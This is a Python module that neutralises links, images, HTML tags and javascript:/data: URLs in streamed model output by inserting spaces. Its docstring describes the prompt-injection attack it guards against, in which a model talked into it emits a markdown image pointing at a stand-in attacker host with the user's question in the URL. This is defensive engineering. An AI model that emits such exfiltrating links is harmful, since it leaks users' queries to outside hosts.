"""Links and images that a document smuggles into an answer are made harmless: the text stays, the link does not work.

A model that was talked into it can write `![](https://attacker/?q=what-the-user-asked)`, and a page that shows the answer
would load that. So one space is put where a link, an image or an element of HTML would begin to work:

    [label](https://host/path)      [label] (https ://host/path)
    ![alt](//host/x.png)            ![alt] (//host/x.png)
    [label]: https://host           [label] : https ://host
    <https://host> <img src=x>      < https ://host> < img src=x>
    www.host.com                    www .host.com
    javascript:f() data:text/html   javascript :f() data :text/html

Everywhere, in code as well: what one program takes for code another does not. Deleting the spaces gives back what the
model wrote. Bare names without a scheme (`host.com/path`, `name@host.com`), which some programs make clickable, are left.
"""

from __future__ import annotations

import re

_LOADS = ("http", "https", "ftp", "ftps", "file")
_RUNS = ("javascript", "vbscript")


def _after(*words: str) -> str:
    """A pattern for the place after one of these words; a look-behind takes one length only."""
    return f"(?:{'|'.join(f'(?<={word})' for word in words)})"


_BEGINS_TO_WORK = re.compile(
    r"(?<=\])(?=[(:])"
    r"|(?<=<)(?=[A-Za-z/!?])"
    rf"|{_after(*_LOADS)}(?=:/)"
    rf"|{_after(*_RUNS)}(?=:\S)"
    r"|(?<=data)(?<![A-Za-z]data)(?=:[A-Za-z,;])"  # not metadata:...
    r"|(?<=www)(?<![A-Za-z]www)(?=\.)",
    re.IGNORECASE | re.ASCII,
)
_UNDECIDED = re.compile(rf"{_after(*_LOADS, *_RUNS, 'data')}:\Z", re.IGNORECASE | re.ASCII)
_CONTEXT = max(map(len, (*_LOADS, *_RUNS))) + 1
"""How many characters before a place decide about it."""


class Defused:
    """A stream of text in which nothing can be clicked or loaded. Holds back one character at most: a scheme's colon."""

    def __init__(self) -> None:
        self._before = ""
        self._held = ""

    def feed(self, piece: str) -> str:
        """What was held and the piece, with their spaces."""
        text = self._before + self._held + piece
        end = len(text) - 1 if _UNDECIDED.search(text, max(0, len(text) - _CONTEXT)) else len(text)
        at = len(self._before)
        passed: list[str] = []
        for match in _BEGINS_TO_WORK.finditer(text, at):
            if match.start() < end:
                passed += text[at : match.start()], " "
                at = match.start()
        passed.append(text[at:end])
        self._before, self._held = text[max(0, end - _CONTEXT) : end], text[end:]
        return "".join(passed)

    def end(self) -> str:
        """What was held, now that nothing follows."""
        held, self._held = self._held, ""
        return held
